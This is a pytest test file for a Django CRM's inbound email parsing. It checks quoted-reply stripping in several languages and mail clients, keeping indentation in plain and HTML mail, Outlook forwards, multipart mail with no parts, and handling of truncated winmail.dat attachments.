def test_a_persons_date_and_time_line_is_not_taken_for_a_quoted_header_block(body):
    """ "Date: 3 May 2027, 10:30" under "From: Leeds" has a year and a time, as a quoted mail's
    header has: the person's question after it was dropped as quoted history."""
    do_receive_inbound(mail(GRACE, subject="Trip", body=body), "pipe")
    assert Enquiry.objects.get().message == body


def test_a_german_outlook_header_block_without_an_address_is_still_stripped():
    body = (
        "März passt.\n\nVon: Example Support\nGesendet: Montag, 7. Dezember 2026 10:00\n"
        "An: Grace\nBetreff: Kurs\n\nWelcher Monat passt Ihnen?"
    )
    do_receive_inbound(mail(GRACE, subject="Kurs", body=body), "pipe")
    assert Enquiry.objects.get().message == "März passt."


CODE_REPLY = (
    "Here is my config:\n\n"
    "    server {\n"
    "        listen 80;\n"
    "    }\n\n"
    "Steps I tried:\n"
    "  1. restart\n"
    "     (twice)\n"
    "  2. reload\n\n"
    "On Mon, 7 Dec 2026 at 10:00, Example Support <support@example.co.uk> wrote:\n"
    "> Which config do you use?\n"
)


@pytest.mark.parametrize("indented_first", [False, True], ids=["text-first", "code-first"])
def test_a_reply_keeps_the_persons_indentation_only_the_quote_goes(indented_first):
    """The quoted-reply library strips every line before it looks for the quote: a config
    snippet and an indented list lost their indentation, and read as something else."""
    body = CODE_REPLY.split("\n", 2)[2] if indented_first else CODE_REPLY
    do_receive_inbound(mail(GRACE, subject="Config", body=body), "pipe")
    kept = Enquiry.objects.get().message
    assert kept == body.split("\n\nOn Mon")[0]
    assert "        listen 80;\n" in kept and "     (twice)" in kept
    assert "Which config" not in kept


def test_the_operator_sees_the_persons_text_as_written(client):
    from django.contrib.staticfiles import finders
    from django.urls import reverse

    from .helpers import operator

    do_receive_inbound(mail(GRACE, subject="Config", body=CODE_REPLY), "pipe")
    enquiry = Enquiry.objects.get()
    do_receive_inbound(
        mail(
            GRACE,
            subject="Re: Config",
            body=CODE_REPLY,
            headers={"In-Reply-To": ConversationMessage.objects.get().message_id},
        ),
        "pipe",
    )
    client.force_login(operator("ada"))
    page = client.get(reverse("crm:enquiry", args=[enquiry.pk])).text
    written = "Here is my config:\n\n    server {\n        listen 80;\n    }"
    assert page.count(written) == 2  # the enquiry's first message, and the reply in the thread
    # Shown as written: the page's stylesheet keeps the text's spaces and line breaks.
    stylesheet = Path(finders.find("crm/crm.css")).read_text()
    assert re.search(r"\.message-text, \.record-message \{[^}]*white-space: pre-wrap", stylesheet)


# Gmail writes a person's indentation as "&nbsp; &nbsp; " (alternating, so the browser keeps
# it); Apple Mail a tab as a span styled white-space:pre; a pasted log or config comes in <pre>.
GMAIL_HTML_ONLY = eml(
    """
From: Grace Hopper <grace@example.org>
To: support@example.co.uk
Subject: Config
Message-ID: <CAF=abc123@mail.gmail.com>
MIME-Version: 1.0
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable
""",
    '<div dir=3D"ltr">Steps I tried:<div>1. restart</div><div>&nbsp; &nbsp; (twice)</div>=\n'
    "<div>2. reload</div><div><br></div><div>My config:</div><pre>server {\n"
    "    listen 80;\n"
    '}</pre><div>Log:<span class=3D"Apple-tab-span" style=3D"white-space:pre">\t</span>=\n'
    'error</div><div style=3D"white-space: pre-wrap">  a\n    b</div></div>\n',
)


def test_html_only_mail_keeps_the_persons_preformatted_text_and_indentation(client):
    """An HTML-only mail's indentation (Gmail's &nbsp;s, Apple Mail's white-space:pre tabs and
    blocks) was collapsed to single spaces: "(twice)" joined the list's margin, a log's lines
    ran together.  <pre> kept its own.  Shown on the enquiry page as kept (pre-wrap)."""
    from django.urls import reverse

    from .helpers import operator

    do_receive_inbound(GMAIL_HTML_ONLY, "pipe")
    kept = Enquiry.objects.get().message
    assert kept == (
        "Steps I tried:\n1. restart\n    (twice)\n2. reload\n\nMy config:\n\n"
        "server {\n    listen 80;\n}\n\nLog:\terror\n  a\n    b"
    )
    client.force_login(operator("ada"))
    page = client.get(reverse("crm:enquiry", args=[Enquiry.objects.get().pk])).text
    assert "1. restart\n    (twice)\n2. reload" in page and "server {\n    listen 80;\n}" in page


# The line Gmail, Apple Mail and Outlook on the web put above the quoted mail, in French,
# Spanish and Dutch (German and English are read by the library as they are).
ATTRIBUTIONS = {
    "gmail-fr": "Le lun. 7 déc. 2026 à 10:00, Example Support <support@example.co.uk> a écrit :",
    "apple-fr": "Le 7 déc. 2026 à 10:00, Nicole Leroy <support@example.co.uk> a écrit :",
    "gmail-fr-wrapped": "Le lun. 7 déc. 2026 à 10:00, Example Support <\n"
    "support+e1.017bf38eac63b2b1@example.co.uk> a écrit :",
    "gmail-es": "El lun, 7 dic 2026 a las 10:00, Example Support (<support@example.co.uk>) "
    "escribió:",
    "apple-es": "El 7 dic 2026, a las 10:00, Example Support <support@example.co.uk> escribió:",
    "gmail-nl": "Op ma 7 dec. 2026 om 10:00 schreef Example Support <support@example.co.uk>:",
    "apple-nl": "Op 7 dec. 2026, om 10:00 heeft Example Support <support@example.co.uk> het "
    "volgende geschreven:",
    "gmail-de": "Am Mo., 7. Dez. 2026 um 10:00 Uhr schrieb Example Support "
    "<support@example.co.uk>:",
}


@pytest.mark.parametrize("attribution", ATTRIBUTIONS.values(), ids=ATTRIBUTIONS.keys())
def test_a_reply_in_french_spanish_or_dutch_keeps_only_what_the_person_wrote(attribution):
    """The quoted-reply library's French pattern refused a line with a second "le " in it
    ("Example Support"), its Spanish one wanted two spaces before "escribió:", its Dutch one
    had no "schreef Naam:": the whole quoted history was kept as the person's message."""
    body = f"Merci, c'est bon.\n\n{attribution}\n> Hello Amélie,\n> Thank you for writing.\n"
    do_receive_inbound(mail(GRACE, subject="Re: Commande", body=body), "pipe")
    assert Enquiry.objects.get().message == "Merci, c'est bon."


def test_a_french_sentence_that_says_someone_wrote_is_not_a_quote():
    body = "Le client a écrit : merci pour tout.\nLe produit est arrivé hier."
    do_receive_inbound(mail(GRACE, subject="Commande", body=body), "pipe")
    assert Enquiry.objects.get().message == body


OUTLOOK_FORWARD = (
    "Can you help my colleague with this?\n\n"
    "________________________________\n"
    "From: Eve Colleague <eve@example.net>\n"
    "Sent: Monday, December 7, 2026 9:00 AM\n"
    "To: Grace Hopper <grace@example.org>\n"
    "Subject: Order 1235\n\n"
    "The order 1235 never arrived.\n"
)


@pytest.mark.parametrize("prefix", ["FW:", "Fwd:", "TR:", "WG:", "RV:"])
def test_an_outlook_forward_keeps_the_forwarded_mail_after_the_persons_words(prefix):
    """Outlook forwards with no "Forwarded message" line: its "From: … Sent: …" block is the
    one its replies quote under, and the forwarded mail, what the person sent us to read, was
    stripped as quoted history ("Can you help my colleague with this?" and nothing else)."""
    do_receive_inbound(mail(GRACE, subject=f"{prefix} Order 1235", body=OUTLOOK_FORWARD), "pipe")
    assert Enquiry.objects.get().message == OUTLOOK_FORWARD.strip()


def test_an_outlook_reply_still_loses_its_quoted_history():
    do_receive_inbound(mail(GRACE, subject="RE: Order 1235", body=OUTLOOK_FORWARD), "pipe")
    assert Enquiry.objects.get().message == "Can you help my colleague with this?"


@pytest.mark.parametrize(
    "content_type",
    ["multipart/mixed", 'multipart/mixed; boundary="never-used"'],
    ids=["no-boundary", "boundary-not-found"],
)
def test_multipart_mail_with_no_parts_keeps_its_text(content_type):
    """Mail labelled multipart whose body has no parts (no boundary, or one it never uses) was
    acknowledged and kept as "(no text)": what the person wrote was in its body all along."""
    raw = eml(
        f"""
From: Grace Hopper <grace@example.org>
To: support@example.co.uk
Subject: Order 1234
MIME-Version: 1.0
Content-Type: {content_type}; charset=utf-8
""",
        "The order 1234 never arrived.\nCan you send it again?\n",
    )
    do_receive_inbound(raw, "pipe")
    assert Enquiry.objects.get().message == "The order 1234 never arrived.\nCan you send it again?"


# --- a winmail.dat cut short ------------------------------------------------------------------
def test_a_winmail_dat_cut_short_keeps_the_files_read_in_full_and_says_so(settings, tmp_path):
    """A winmail.dat cut short (a mail server's size limit, a broken relay) gave its last file
    cut short as if it were whole, a 53-byte "SCREEN~1.PNG" of 160, and no word of it."""
    from tidings.crm.inbound.mail import TNEF_CUT_SHORT
    from tidings.crm.models import ConversationAttachment

    from .test_inbound import keep_attachments

    keep_attachments(settings, tmp_path)
    winmail = winmail_dat(
        [
            ("Quarterly report 2026.pdf", "QUARTE~1.PDF", b"%PDF-1.7 report" * 20),
            ("Screenshot.png", "SCREEN~1.PNG", b"\x89PNG\r\n\x1a\n" * 20),
        ]
    )
    cut = winmail.index(b"\x89PNG") + 50  # in the middle of the second file's bytes
    assert do_receive_inbound(outlook_rich_text_mail(winmail[:cut]), "pipe").status == "processed"
    kept = ConversationAttachment.objects.all()
    assert [(a.filename, bytes(a.data)) for a in kept] == [
        ("Quarterly report 2026.pdf", b"%PDF-1.7 report" * 20)
    ]
    assert Enquiry.objects.get().message == f"Please see the report.\n\n{TNEF_CUT_SHORT}"


def test_a_rich_text_winmail_dat_cut_short_keeps_the_text_read_and_says_so():
    from tidings.crm.inbound.mail import TNEF_CUT_SHORT

    winmail = winmail_dat([], rtf=RICH_TEXT)
    raw = rich_text_only_mail(winmail[:-8], text_part=True)  # its last bytes lost
    assert do_receive_inbound(raw, "pipe").status == "processed"
    message = Enquiry.objects.get().message
    assert message.startswith("Hello,\n\nWe would like ten seats")
    assert message.endswith(f"\n\n{TNEF_CUT_SHORT}")


def test_a_winmail_dat_cut_anywhere_never_breaks_reading_the_mail():
    from tidings.crm.inbound import mail as inbound

    winmail = winmail_dat([("a.pdf", "A.PDF", b"%PDF" * 10)], rtf=RICH_TEXT)
    # Cut between two attributes, a stream looks whole (nothing says more should follow).
    ends, at = set(), 6
    while at < len(winmail):
        at += 11 + int.from_bytes(winmail[at + 5 : at + 9], "little")
        ends.add(at)
    for cut in range(4, len(winmail)):
        message = inbound.read(rich_text_only_mail(winmail[:cut], text_part=False))
        body = inbound.content(message)
        assert body.text.endswith(inbound.TNEF_CUT_SHORT) or cut in ends, cut
        assert all(a.data == b"%PDF" * 10 for a in body.attachments), cut  # whole, or none
